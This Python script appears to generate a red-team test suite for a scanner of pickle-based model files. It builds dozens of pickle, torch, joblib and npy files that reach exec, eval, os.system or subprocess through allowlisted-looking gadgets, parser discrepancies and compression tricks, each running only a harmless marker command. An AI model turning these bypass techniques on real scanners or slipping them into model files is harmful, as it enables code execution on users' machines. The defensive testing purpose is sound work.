#!/usr/bin/python3
"""Writes the red-team attack files into test/redteam/files/ and the manifest test/redteam/manifest.json.

Every file runs a harmless marker (it creates MARKER_<id> in the current directory) when loaded with the
loader named in the manifest; prove.py checks that under Debian's CPython. File names are neutral (m01.pkl…):
the scanner must not rely on names. Files larger than 64 KiB are stored with their long filler run cut out;
the manifest's `expand` [offset, byte, count] says where to put it back (prove.py and redteam.test.ts do).

Run from the repository root: /usr/bin/python3 test/redteam/generate.py
"""
import base64
import bz2
import gzip
import io
import json
import lzma
import os
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "files")

# ------------------------------------------------------------------ pickle opcodes, written by hand

MARK, STOP, POP, TUPLE, REDUCE, BUILD, NONE = b"(", b".", b"0", b"t", b"R", b"b", b"N"
EMPTY_DICT, SETITEM, SETITEMS, NEWOBJ, EMPTY_TUPLE = b"}", b"s", b"u", b"\x81", b")"


def P(n=4):
    return b"\x80" + bytes([n])


def s(text):
    """BINUNICODE (works in every protocol the C and Python unpicklers read)."""
    b = text.encode() if isinstance(text, str) else text
    return b"X" + struct.pack("<I", len(b)) + b


def i(n):
    return b"J" + struct.pack("<i", n)


def gl(mod, name):
    """GLOBAL; dotted names need PROTO 4 earlier in the stream."""
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sg(mod, name):
    """STACK_GLOBAL with SHORT_BINUNICODE operands."""
    return b"\x8c" + bytes([len(mod)]) + mod.encode() + b"\x8c" + bytes([len(name)]) + name.encode() + b"\x93"


def tup(*items):
    return MARK + b"".join(items) + TUPLE


def call(f, *args):
    return f + tup(*args) + REDUCE


def dct(**kv):
    return EMPTY_DICT + (MARK + b"".join(s(k) + v for k, v in kv.items()) + SETITEMS if kv else b"")


def lst(*items):
    return b"]" + (MARK + b"".join(items) + b"e" if items else b"")


def rft(func, *args):
    """torch._tensor._rebuild_from_type_v2(func, torch.Tensor, args, None) == func(*args)."""
    return call(gl("torch._tensor", "_rebuild_from_type_v2"), func, gl("torch", "Tensor"), tup(*args), NONE)


def pk(body, proto=4):
    return P(proto) + body + STOP


def shell(mid):
    return f"touch MARKER_{mid}"


def py(mid):
    return f"open('MARKER_{mid}','w').close()"


def pyexpr(mid):
    return f"__import__('os').system('touch MARKER_{mid}')"


# ------------------------------------------------------------------ containers

def torch_zip(data_pkl, extra=None, compress=zipfile.ZIP_STORED, prefix="archive"):
    """A torch.save zip archive (torch >= 1.6 layout) whose data.pkl is `data_pkl`."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/version", "3\n")
        for k, v in (extra or {}).items():
            z.writestr(f"{prefix}/{k}", v)
    return buf.getvalue()


def gz(data):
    return gzip.compress(data, mtime=0)


ENTRIES = []


def add(mid, ext, data, loader, cls, trick, sink, expand=None):
    name = f"{mid}{ext}"
    path = os.path.join(OUT, name)
    if isinstance(data, dict):  # a folder: relative path -> bytes
        os.makedirs(path, exist_ok=True)
        for rel, content in data.items():
            p = os.path.join(path, rel)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "wb") as f:
                f.write(content)
    else:
        with open(path, "wb") as f:
            f.write(data)
    e = {"id": mid, "file": name, "loader": loader, "class": cls, "trick": trick, "sink": sink}
    if expand is not None:
        e["expand"] = expand
    ENTRIES.append(e)


def expand_bytes(data, expand):
    off, byte, count = expand
    return data[:off] + bytes([byte]) * count + data[off:]


def build():
    n = 0

    def nid():
        nonlocal n
        n += 1
        return f"m{n:02d}"

    # ============================================================== class 1: calls the machine does not see
    m = nid()
    add(m, ".pkl", pk(rft(gl("sympy.core.sympify", "sympify"), s(pyexpr(m)))), "pickle.load", 1,
        "torch._tensor._rebuild_from_type_v2(sympy.core.sympify.sympify, torch.Tensor, (code,), None): the allowlisted helper calls func(*args); func is only 'referenced'",
        "sympify -> eval -> os.system")
    m = nid()
    add(m, ".pkl", pk(rft(gl("enum", "bltns.exec"), s(py(m)))), "pickle.load", 1,
        "_rebuild_from_type_v2(enum.bltns.exec, Tensor, (code,), None): exec reached through enum's `import builtins as bltns`, only referenced",
        "exec -> open()")
    m = nid()
    add(m, ".pt", pk(rft(sg("bz2", "_builtin_open"), s(f"MARKER_{m}"), s("w"))), "torch.load", 1,
        "_rebuild_from_type_v2(bz2._builtin_open, Tensor, (path, 'w'), None): io.open re-exported by bz2 under a private name; legacy torch.load runs the first pickle",
        "io.open (file create)")
    m = nid()
    add(m, ".pkl", pk(rft(gl("sympy.printing.preview", "check_output"), lst(s("touch"), s(f"MARKER_{m}")))), "pickle.load", 1,
        "_rebuild_from_type_v2(sympy.printing.preview.check_output, Tensor, (argv,), None): subprocess.check_output re-exported by sympy",
        "subprocess.check_output")
    m = nid()
    add(m, ".pkl", pk(call(call(gl("sklearn.utils._available_if", "MethodType"), gl("enum", "bltns.eval"), s(pyexpr(m))))), "pickle.load", 1,
        "sklearn.utils._available_if.MethodType (types.MethodType, class-shaped under sklearn: allowlisted) binds eval to the code string; REDUCE then calls the bound method (a call result, never checked)",
        "eval -> os.system")
    m = nid()
    add(m, ".pkl", pk(call(gl("numpy.random._pickle", "__generator_ctor"), s(py(m)), gl("enum", "bltns.exec"))), "pickle.load", 1,
        "numpy.random._pickle.__generator_ctor(code, exec): bit_generator_ctor(bit_generator_name) calls the ctor argument",
        "exec -> open()")
    m = nid()
    add(m, ".pkl", pk(call(gl("numpy.random._pickle", "__randomstate_ctor"), s(f"MARKER_{m}"), sg("tokenize", "_builtin_open"))), "pickle.load", 1,
        "numpy.random._pickle.__randomstate_ctor(path, tokenize._builtin_open): calls the ctor argument with the name",
        "io.open (file create, mode r fails: uses x? no: see sink)")
    # __randomstate_ctor calls ctor(name) with one argument: open(path) in read mode fails, so use sympify
    ENTRIES.pop()
    os.remove(os.path.join(OUT, f"{m}.pkl"))
    add(m, ".pkl", pk(call(gl("numpy.random._pickle", "__randomstate_ctor"), s(pyexpr(m)), gl("sympy.core.sympify", "sympify"))), "pickle.load", 1,
        "numpy.random._pickle.__randomstate_ctor(code, sympy.core.sympify.sympify): calls the ctor argument with the name",
        "sympify -> eval -> os.system")
    m = nid()
    ns = call(gl("types", "SimpleNamespace"))
    body = gl("copyreg", "_reconstructor") + MARK + s(py(m)) + ns + dct(__new__=gl("enum", "bltns.exec")) + BUILD + EMPTY_DICT + TUPLE + REDUCE
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "copyreg._reconstructor(code, base, {}) where base is a SimpleNamespace whose __new__ attribute was set by BUILD to exec: base.__new__(cls, state) == exec(code, {})",
        "exec -> open()")
    m = nid()
    cls = call(gl("builtins", "type"), s("X"), tup(gl("builtins", "object")), dct(__init__=gl("enum", "bltns.exec")))
    add(m, ".pkl", pk(call(cls, s(py(m)))), "pickle.load", 1,
        "builtins.type('X', (object,), {'__init__': exec}) builds a class; REDUCE on the new class (a call result) runs X(code) -> exec(code)",
        "exec -> open()")
    m = nid()
    cls = call(gl("builtins", "type"), s("Y"), tup(gl("builtins", "object")), dct(__setstate__=gl("enum", "bltns.exec")))
    body = cls + EMPTY_TUPLE + NEWOBJ + s(py(m)) + BUILD
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "builtins.type(...) class with __setstate__ = exec; NEWOBJ on the call result, then BUILD(code) calls __setstate__",
        "exec -> open()")
    m = nid()
    body = call(gl("argparse", "Namespace")) + dct(__setstate__=gl("enum", "bltns.exec")) + BUILD + s(py(m)) + BUILD
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "BUILD on an argparse.Namespace instance sets an instance attribute __setstate__ = exec; a second BUILD(code) calls it",
        "exec -> open()")
    m = nid()
    body = call(gl("types", "SimpleNamespace")) + dct(__setstate__=gl("sympy.core.sympify", "sympify")) + BUILD + s(pyexpr(m)) + BUILD
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "BUILD on a types.SimpleNamespace sets an instance attribute __setstate__ = sympy.core.sympify.sympify; a second BUILD(code) calls it",
        "sympify -> eval -> os.system")
    m = nid()
    body = call(gl("argparse", "Namespace")) + dct(__setstate__=gl("sympy.printing.preview", "check_output")) + BUILD + lst(s("touch"), s(f"MARKER_{m}")) + BUILD
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "argparse.Namespace instance attribute __setstate__ = sympy.printing.preview.check_output (subprocess.check_output); second BUILD state is the argv list",
        "subprocess.check_output")
    m = nid()
    body = call(gl("argparse", "Namespace")) + tup(NONE, dct(__setstate__=gl("enum", "bltns.exec"))) + BUILD + s(py(m)) + BUILD
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "first BUILD with (None, slotstate) tuple state: the setattr path plants __setstate__ = exec; second BUILD(code) calls it",
        "exec -> open()")
    m = nid()
    bound = call(gl("sklearn.utils._available_if", "MethodType"), gl("enum", "bltns.exec"), s(py(m)))
    body = call(gl("types", "SimpleNamespace")) + EMPTY_DICT + s("__setstate__") + bound + SETITEM + BUILD + EMPTY_DICT + BUILD
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "planted __setstate__ is a call result MethodType(exec, code); the second BUILD's state {} becomes exec's globals",
        "exec -> open()")
    m = nid()
    inner = pk(call(gl("os", "system"), s(shell(m))), 2)
    data = call(gl("builtins", "bytes"), lst(*[b"K" + bytes([c]) for c in inner]))
    body = call(gl("argparse", "Namespace")) + dct(__setstate__=gl("joblib._memmapping_reducer", "loads")) + BUILD + data + BUILD
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "planted __setstate__ = joblib._memmapping_reducer.loads (pickle.loads); second BUILD state is bytes([...]) built at load time, holding a pickle that runs os.system",
        "pickle.loads -> os.system")
    m = nid()
    body = call(gl("types", "SimpleNamespace")) + dct(__setstate__=gl("enum", "bltns.exec")) + BUILD + s(py(m)) + BUILD
    add(m, ".pt", torch_zip(pk(body, 4)), "torch.load", 1,
        "the planted-__setstate__ double BUILD inside a torch zip checkpoint's data.pkl",
        "exec -> open()")
    m = nid()
    body = call(gl("types", "SimpleNamespace")) + dct(__setstate__=gl("enum", "bltns.exec")) + BUILD + s(py(m)) + BUILD
    add(m, ".joblib", pk(body, 4), "joblib.load", 1,
        "the planted-__setstate__ double BUILD under joblib.load (pure-Python unpickler)",
        "exec -> open()")
    m = nid()
    body = call(gl("argparse", "Namespace")) + dct(append=gl("enum", "bltns.exec")) + BUILD + s(py(m)) + b"a"
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "APPEND on a non-list looks up the instance's `append` attribute: BUILD plants append = exec, APPEND(code) calls it",
        "exec -> open()")
    m = nid()
    body = call(gl("types", "SimpleNamespace")) + dct(extend=gl("sympy.printing.preview", "check_output")) + BUILD + MARK + s("touch") + s(f"MARKER_{m}") + b"e"
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "APPENDS on a non-list calls the instance's `extend` with the items as a list: BUILD plants extend = subprocess.check_output (via sympy.printing.preview)",
        "subprocess.check_output")
    m = nid()
    body = call(gl("argparse", "Namespace")) + dct(add=gl("sympy.core.sympify", "sympify")) + BUILD + MARK + s(pyexpr(m)) + b"\x90"
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "ADDITEMS on a non-set calls the instance's `add` per item: BUILD plants add = sympify",
        "sympify -> eval -> os.system")
    m = nid()
    body = call(gl("argparse", "Namespace")) + dct(append=gl("enum", "bltns.exec")) + BUILD + s(py(m)) + b"a"
    add(m, ".joblib", pk(body), "joblib.load", 1,
        "planted `append` + APPEND under joblib's pure-Python unpickler",
        "exec -> open()")
    m = nid()
    factory = call(gl("sklearn.utils._available_if", "MethodType"), gl("enum", "bltns.exec"), s(py(m)))
    dd = call(gl("collections", "defaultdict"), factory) + s("bit_generator") + s("MT19937") + SETITEM
    body = call(gl("numpy.random._pickle", "__bit_generator_ctor"), s("MT19937")) + dd + BUILD
    add(m, ".pkl", pk(body), "pickle.load", 1,
        "collections.defaultdict(MethodType(exec, code)) as the BUILD state of an MT19937: its state setter reads value['state'], the missing key calls the factory",
        "exec -> open()")
    m = nid()
    getattr_ = gl("enum", "bltns.getattr")
    system = rft(getattr_, sg("gzip", "os"), s("system"))
    add(m, ".pkl", pk(call(system, s(shell(m)))), "pickle.load", 1,
        "getattr chain: _rebuild_from_type_v2(enum.bltns.getattr, Tensor, (gzip.os, 'system'), None) returns os.system; REDUCE on that call result runs it",
        "os.system")
    m = nid()
    mods = rft(getattr_, sg("enum", "sys"), s("modules"))
    get = rft(getattr_, mods, s("get"))
    osmod = call(get, s("subprocess"))
    run = rft(getattr_, osmod, s("run"))
    add(m, ".pkl", pk(call(run, lst(s("touch"), s(f"MARKER_{m}")))), "pickle.load", 1,
        "getattr chain through enum.sys.modules.get('subprocess').run: every hop is a call result or an unknown name only referenced",
        "subprocess.run")
    m = nid()
    path = call(gl("sklearn.utils.discovery", "Path"), s(f"MARKER_{m}"))
    add(m, ".pkl", pk(rft(gl("sklearn.utils.discovery", "Path.touch"), path)), "pickle.load", 1,
        "_rebuild_from_type_v2(sklearn.utils.discovery.Path.touch, Tensor, (Path('MARKER'),), None): pathlib.Path re-exported by sklearn (class-shaped, allowlisted); the unbound method is only referenced",
        "pathlib.Path.touch")
    m = nid()
    path = call(gl("sklearn.utils.discovery", "Path"), s(f"MARKER_{m}"))
    bound = call(gl("sklearn.utils._available_if", "MethodType"), gl("sklearn.utils.discovery", "Path.write_text"), path)
    add(m, ".pkl", pk(call(bound, s("x"))), "pickle.load", 1,
        "MethodType(sklearn.utils.discovery.Path.write_text, Path('MARKER'))('x'): no eval, no denylisted module",
        "pathlib.Path.write_text")
    m = nid()
    inner = pk(call(gl("os", "system"), s(shell(m))), 2)
    ints = lst(*[b"K" + bytes([c]) for c in inner])
    data = call(gl("builtins", "bytes"), ints)
    add(m, ".pkl", pk(rft(gl("joblib._memmapping_reducer", "loads"), data)), "pickle.load", 1,
        "nested pickle: joblib._memmapping_reducer.loads (pickle.loads under another name, not a known loader) on builtins.bytes([...ints]) built at load time, so no constant holds the inner pickle",
        "pickle.loads -> os.system")
    m = nid()
    imp = rft(gl("sklearn.utils.discovery", "import_module"), s("subprocess"))
    getoutput = rft(gl("enum", "bltns.getattr"), imp, s("getoutput"))
    add(m, ".pkl", pk(call(getoutput, s(shell(m)))), "pickle.load", 1,
        "sklearn.utils.discovery.import_module (importlib.import_module) via _rebuild_from_type_v2, then getattr chain",
        "importlib.import_module -> subprocess.getoutput")
    m = nid()
    add(m, ".pkl", pk(rft(sg("sympy", "S"), s(pyexpr(m)))), "pickle.load", 1,
        "_rebuild_from_type_v2(sympy.S, ...): the SingletonRegistry instance's __call__ is sympify",
        "sympify -> eval -> os.system")
    m = nid()
    m_code = rft(gl("enum", "bltns.compile"), s(py(m)), s("<x>"), s("exec"))
    add(m, ".pkl", pk(rft(gl("enum", "bltns.exec"), m_code)), "pickle.load", 1,
        "code object: enum.bltns.compile builds a code object, enum.bltns.exec runs it, both only referenced through _rebuild_from_type_v2",
        "compile+exec code object -> open()")
    m = nid()
    dpkl = pk(rft(gl("enum", "bltns.exec"), s(py(m))), 2).replace(b"\x80\x02", b"\x80\x04", 1)
    add(m, ".pt", torch_zip(dpkl), "torch.load", 1,
        "torch zip checkpoint whose data.pkl is the _rebuild_from_type_v2(enum.bltns.exec, ...) gadget",
        "exec -> open()")
    m = nid()
    add(m, ".joblib", pk(rft(gl("enum", "bltns.exec"), s(py(m))), 4), "joblib.load", 1,
        "joblib.load (pure-Python unpickler) of the _rebuild_from_type_v2 gadget",
        "exec -> open()")
    m = nid()
    add(m, ".pkl", pk(rft(gl("enum", "bltns.exec"), s(py(m)))), "dill.load", 1,
        "dill.load of the _rebuild_from_type_v2(enum.bltns.exec) gadget",
        "exec -> open()")
    m = nid()
    add(m, ".pkl", pk(rft(gl("enum", "bltns.eval"), s(pyexpr(m)))), "pandas.read_pickle", 1,
        "pandas.read_pickle of _rebuild_from_type_v2(enum.bltns.eval, ...)",
        "eval -> os.system")
    m = nid()
    add(m, ".pkl", pk(rft(gl("enum", "bltns.exec"), s(py(m)))), "pickle.loads", 1,
        "pickle.loads(bytes) of the _rebuild_from_type_v2(enum.bltns.exec) gadget",
        "exec -> open()")

    # ============================================================== class 2: names matched by spelling
    m = nid()
    add(m, ".pkl", pk(call(gl("enum", "bltns.eval"), s(pyexpr(m)))), "pickle.load", 2,
        "GLOBAL enum / bltns.eval (protocol 4 dotted name) called directly", "eval -> os.system")
    m = nid()
    add(m, ".pkl", pk(call(sg("enum", "bltns.exec"), s(py(m)))), "pickle.load", 2,
        "STACK_GLOBAL ('enum', 'bltns.exec') called directly", "exec -> open()")
    m = nid()
    add(m, ".pkl", pk(call(gl("torch.serialization", "os.system"), s(shell(m)))), "pickle.load", 2,
        "torch.serialization + os.system attribute walk", "os.system")
    m = nid()
    add(m, ".pkl", pk(call(gl("numpy.testing._private.utils", "os.system"), s(shell(m)))), "pickle.load", 2,
        "numpy.testing._private.utils.os.system walk", "os.system")
    m = nid()
    add(m, ".pkl", pk(call(gl("__builtin__", "eval"), s(pyexpr(m))), 2), "pickle.load", 2,
        "_compat_pickle rename: protocol 2 __builtin__.eval", "eval -> os.system")
    m = nid()
    add(m, ".pkl", pk(call(gl("commands", "getoutput"), s(shell(m))), 2), "pickle.load", 2,
        "_compat_pickle rename: protocol 2 commands.getoutput -> subprocess.getoutput", "subprocess.getoutput")
    m = nid()
    add(m, ".pkl", pk(call(gl("sympy.core.sympify", "sympify"), s(pyexpr(m)))), "pickle.load", 2,
        "sympy.core.sympify.sympify called directly (the denylist names sympy.sympify only)", "sympify -> eval")
    m = nid()
    add(m, ".pkl", pk(call(gl("sympy.printing.preview", "check_output"), lst(s("touch"), s(f"MARKER_{m}")))), "pickle.load", 2,
        "sympy.printing.preview.check_output (subprocess.check_output re-exported) called directly", "subprocess.check_output")
    m = nid()
    add(m, ".pkl", pk(call(gl("bz2", "_builtin_open"), s(f"MARKER_{m}"), s("w"))), "pickle.load", 2,
        "bz2._builtin_open (io.open under a private alias) called directly", "io.open")
    m = nid()
    bound = call(gl("sklearn.utils._available_if", "MethodType"), gl("sklearn.utils.discovery", "Path.touch"), call(gl("sklearn.utils.discovery", "Path"), s(f"MARKER_{m}")))
    add(m, ".pkl", pk(call(bound)), "pickle.load", 2,
        "module wildcard re-export: sklearn.utils.discovery.Path (pathlib.Path) and sklearn.utils._available_if.MethodType (types.MethodType) pass as sklearn classes; MethodType(Path.touch, Path(...))()",
        "pathlib.Path.touch")
    m = nid()
    add(m, ".pkl", pk(call(gl("pathlib", "Path.touch"), call(gl("pathlib", "Path"), s(f"MARKER_{m}")))), "pickle.load", 2,
        "pathlib.Path.touch spelled directly (denied)", "pathlib.Path.touch")
    m = nid()
    add(m, ".pkl", pk(call(gl("numpy.testing._private.utils", "runstring"), s(py(m)), EMPTY_DICT)), "pickle.load", 2,
        "numpy.testing._private.utils.runstring (exec)", "exec")

    # ============================================================== class 3: reading differently from the loader
    payload2 = lambda mid: call(gl("os", "system"), s(shell(mid)))
    m = nid()
    data = b"I" + b"0" * 4999 + b"1\n" + POP + payload2(m) + STOP
    add(m, ".pkl", data, "pickle.load", 3,
        "first opcode INT with a 5,000-digit operand (leading zeros: strtol reads it, CPython's int() limit never applies)", "os.system")
    m = nid()
    data = b"I" + b" " * 8 + b"1\n" + POP + payload2(m) + STOP
    add(m, ".pkl", data, "pickle.load", 3,
        "first opcode INT with 70,000 spaces before the digit: the 64 KiB sniff head has no newline, so the file is 'text'", "os.system",
        expand=[1, 0x20, 70000])
    m = nid()
    data = b"I1\x00junk\n" + POP + payload2(m) + STOP
    add(m, ".pkl", data, "pickle.load", 3,
        "INT line with a NUL after the digits: the C unpickler's strtol stops at the NUL and accepts it", "os.system")
    m = nid()
    data = b"X" + struct.pack("<I", 70000) + POP + payload2(m) + STOP
    add(m, ".pkl", data, "pickle.load", 3,
        "first opcode BINUNICODE with a 70,000-byte operand (past the 64 KiB sniff head), no PROTO", "os.system",
        expand=[5, 0x41, 70000])
    inner_big = b"X" + struct.pack("<I", 70000) + b"A" * 70000 + POP
    m = nid()
    add(m, ".pt", torch_zip(inner_big + call(gl("os", "system"), s(shell(m))) + STOP, compress=zipfile.ZIP_DEFLATED), "torch.load", 3,
        "torch zip whose (deflated) data.pkl starts with a >64 KiB BINUNICODE operand", "os.system")
    m = nid()
    add(m, ".pkl.gz", gz(inner_big + call(gl("posix", "system"), s(shell(m))) + STOP), "pandas.read_pickle", 3,
        "gzip pickle (pandas infers gzip from .gz) whose first opcode has a >64 KiB operand", "posix.system")
    m = nid()
    add(m, ".joblib", zlib.compress(inner_big + call(gl("os", "system"), s(shell(m))) + STOP), "joblib.load", 3,
        "joblib zlib-compressed stream whose first opcode has a >64 KiB operand", "os.system")
    m = nid()
    pay = call(gl("os", "system"), s(shell(m))) + STOP
    assert len(pay) < 100
    info = tarfile.TarInfo("x")
    info.size = 0
    hdr = bytearray(info.tobuf(format=tarfile.USTAR_FORMAT))
    hdr[0:100] = pay.ljust(100, b"\0")
    hdr[148:156] = b" " * 8
    hdr[148:156] = (b"%06o\0 " % sum(hdr))
    add(m, ".pkl", bytes(hdr) + b"\0" * 1024, "pickle.load", 3,
        "valid ustar tar whose member-name field (byte 0) is a complete pickle", "os.system")
    m = nid()
    hlen = 0x3149  # '1' '\x00' ... as a u64 header length
    header = b'{"__metadata__":{"format":"pt"}}'
    header = header + b" " * (hlen - len(header) - 1) + b"\n"
    data = b"I1" + b"\0" * 6 + header + POP + payload2(m) + STOP
    assert struct.unpack("<Q", data[:8])[0] == hlen
    add(m, ".pkl", data, "pickle.load", 3,
        "safetensors-looking length prefix: bytes 'I1\\0\\0\\0\\0\\0\\0' are both a u64 header length and an INT line that strtol ends at the NUL; the JSON header is the rest of that line, the pickle follows it", "os.system")
    # FRAME that a text operand crosses: when a line operand has no newline left in its buffer, the C unpickler
    # calls readline() on the file and drops the buffered part of the line (Modules/_pickle.c _Unpickler_Readline).
    # The scanner reads the line on, across the frame end. A BufferedReader peeks 128 KiB ahead, so for
    # pickle.load(open(...)) the frame must be larger than that; a BytesIO (torch's data.pkl) never peeks.
    def crossing(cmd, filler):
        head = b"B" + struct.pack("<I", filler) + POP if filler else b""
        frame = head + b"V__torch__.x"           # scanner: module '__torch__.xos' (allowlisted); C: 'os'
        flen = len(frame) + filler
        after = b"os\nVsystem\n\x93" + s(cmd) + b"\x85" + REDUCE + STOP
        data = P(4) + b"\x95" + struct.pack("<Q", flen) + frame + after
        return data, (2 + 9 + 5 if filler else None)
    m = nid()
    data, off = crossing(shell(m), 140000)
    add(m, ".pkl", data, "pickle.load", 3,
        "FRAME (>128 KiB, read whole) ending inside a UNICODE line: C pickle.load(file) re-reads the line from after the frame and drops the buffered part, so STACK_GLOBAL gets 'os'+'system'; the scanner joins the line across the frame end and sees the allowlisted '__torch__.xos'", "os.system",
        expand=[off, 0x41, 140000])
    m = nid()
    data_pkl, _ = crossing(shell(m), 0)
    add(m, ".pt", torch_zip(data_pkl), "torch.load", 3,
        "the same FRAME/readline split inside a torch zip data.pkl (torch unpickles it from a BytesIO, so a small frame suffices)", "os.system")
    # joblib NumpyArrayWrapper with a pickled elsize that numpy ignores for builtin dtypes
    def wrapper(shape, dtype_state, extra_state=None):
        dt = call(gl("numpy", "dtype"), s("f8"), b"\x89", b"\x88") + dtype_state + BUILD
        st = dict(subclass=gl("numpy", "ndarray"), shape=tup(*[i(x) for x in shape]), order=s("C"), dtype=dt, allow_mmap=b"\x89")
        if extra_state:
            st.update(extra_state)
        return gl("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + dct(**st) + BUILD
    m = nid()
    cnt = 8
    dstate = tup(i(3), s("<"), NONE, NONE, NONE, i(1), i(1), i(0))  # elsize 1 (numpy uses 8)
    arr = (STOP + b"\xff" * 7) + b"\0" * (cnt * 8 - 8)
    data = P(4) + wrapper([cnt], dstate) + arr + POP + call(gl("os", "system"), s(shell(m))) + STOP
    add(m, ".joblib", data, "joblib.load", 3,
        "joblib NumpyArrayWrapper whose float64 dtype state carries elsize=1: the scanner skips 8 bytes, numpy/joblib read 64; the scanner STOPs inside the array data", "os.system")
    m = nid()
    cnt = 16
    dstate = tup(i(3), s("<"), NONE, NONE, NONE, i(-1), i(-1), i(0))
    joblib_view = POP + call(gl("os", "system"), s(shell(m))) + STOP
    scanner_arr = joblib_view.ljust(cnt * 8, b"\0")
    inner = wrapper([cnt], dstate) + scanner_arr + STOP
    data = P(4) + b"\x95" + struct.pack("<Q", len(inner)) + inner + b"\xff" * (cnt * 8)
    add(m, ".joblib", data, "joblib.load", 3,
        "FRAME around a joblib array: joblib reads the array bytes from the file handle (after the frame), the pickle resumes inside the frame where the scanner skipped 'array bytes' that are the payload", "os.system")
    # npy header parsed differently
    m = nid()
    objpk = pk(call(gl("os", "system"), s(shell(m))), 2)
    hdr = "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O', }"
    hdr = hdr.ljust(118) + "\n"
    add(m, ".npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + objpk, "numpy.load", 3,
        "npy header with a duplicate 'descr' key: Python's dict keeps the last ('|O', object array -> pickle)", "os.system")
    m = nid()
    hdr = "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }"
    hdr = hdr.ljust(118) + "\n"
    add(m, ".npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + pk(call(gl("os", "system"), s(shell(m))), 2), "numpy.load", 3,
        "npy header whose descr is an implicit string concatenation '|' 'O' (literal_eval joins it)", "os.system")
    m = nid()
    hdr = "{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }"
    hdr = hdr.ljust(118) + "\n"
    add(m, ".npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + pk(call(gl("os", "system"), s(shell(m))), 2), "numpy.load", 3,
        "npy with a structured dtype holding an object field: the data is a pickle", "os.system")

    # ============================================================== class 4: silent on what it does not recognise
    payload = lambda mid: pk(call(gl("os", "system"), s(shell(mid))), 2)
    import lz4.frame
    m = nid()
    add(m, ".joblib", lz4.frame.compress(payload(m)), "joblib.load", 4,
        "joblib compress='lz4' (LZ4 frame magic 04 22 4d 18)", "os.system")
    m = nid()
    raw = lzma.compress(payload(m), format=lzma.FORMAT_ALONE)
    raw = raw[:1] + struct.pack("<I", 3 << 20) + raw[5:]  # dictionary 3 MiB: 2^n + 2^(n-1), liblzma accepts it
    add(m, ".joblib", raw, "joblib.load", 4,
        "LZMA-alone stream with a 3 MiB (not power-of-two) dictionary size; joblib detects it by its 5d 00 prefix", "os.system")
    m = nid()
    add(m, ".pkl.bz2", bz2.compress(payload(m)), "pandas.read_pickle", 4,
        "pandas .bz2 compressed pickle", "os.system")
    m = nid()
    add(m, ".pkl.xz", lzma.compress(payload(m)), "pandas.read_pickle", 4,
        "pandas .xz compressed pickle", "os.system")
    m = nid()
    g = bytearray(gz(payload(m)))
    g[-8:-4] = b"\0\0\0\0"  # wrong CRC: the unpickler stops at STOP and never reads the trailer
    add(m, ".pkl.gz", bytes(g), "pandas.read_pickle", 4,
        "gzip member with a wrong CRC-32 trailer", "os.system")
    m = nid()
    g = gz(payload(m))[:-8]
    add(m, ".pkl.gz", g, "pandas.read_pickle", 4,
        "truncated gzip (no trailer)", "os.system")
    m = nid()
    z = bytearray(torch_zip(pk(call(gl("os", "system"), s(shell(m))), 2)))
    # corrupt the central-directory CRC of data.pkl and the local one: miniz/torch do not check stored CRCs? test
    add(m, ".pt", bytes(z[:-22]) + bytes(z[-22:]), "torch.load", 4,
        "plain torch zip with an os.system data.pkl (control)", "os.system")
    m = nid()
    add(m, ".pkl.zip", zipfile_one("x.pkl", payload(m)), "pandas.read_pickle", 4,
        "pandas .zip compressed pickle (single member)", "os.system")
    m = nid()
    add(m, ".pkl.tar", tar_one("x.pkl", payload(m)), "pandas.read_pickle", 4,
        "pandas .tar compressed pickle (pandas 1.5 reads the single member)", "os.system")

    # ============================================================== class 5: one bad file ends the run
    m = nid()
    deep = "[" * 513 + "]" * 513
    cfg = ('{"model_type": "bert", "x": ' + "{\"a\": " * 513 + "1" + "}" * 513 + "}").encode()
    add(m, "", {"config.json": cfg, "model.pkl": payload(m)}, "folder:pickle.load:model.pkl", 5,
        "folder whose config.json nests 513 levels deep beside a malicious pickle", "os.system")
    m = nid()
    add(m, "", {"tokenizer.json": ("[" * 100000 + "]" * 100000).encode(), "pytorch_model.bin": payload(m)}, "folder:torch.load:pytorch_model.bin", 5,
        "folder with a 100,000-deep JSON array in tokenizer.json beside a malicious checkpoint", "os.system")
    m = nid()
    add(m, "", {"config.json": b'{"model_type": "bert", "auto_map": ' + b"[" * 600 + b"]" * 600 + b"}", "weights.pkl": payload(m)}, "folder:pickle.load:weights.pkl", 5,
        "folder whose config.json auto_map is a 600-deep array beside a malicious pickle", "os.system")

    # ============================================================== class 6: public advisory classes
    m = nid()
    add(m, ".pkl", pk(call(gl("pydoc", "pipepager"), s("x"), s(shell(m))), 2), "pickle.load", 6,
        "pydoc.pipepager(text, cmd) (picklescan GHSA class)", "shell via pipepager")
    m = nid()
    add(m, ".pkl", pk(call(gl("timeit", "timeit"), s("pass"), s(py(m)), NONE, i(1)), 2), "pickle.load", 6,
        "timeit.timeit(stmt, setup) runs setup code", "exec via timeit")
    m = nid()
    add(m, ".pkl", pk(call(gl("cProfile", "run"), s(py(m)))), "pickle.load", 6,
        "cProfile.run(code)", "exec via cProfile")
    m = nid()
    interp = call(gl("code", "InteractiveInterpreter"))
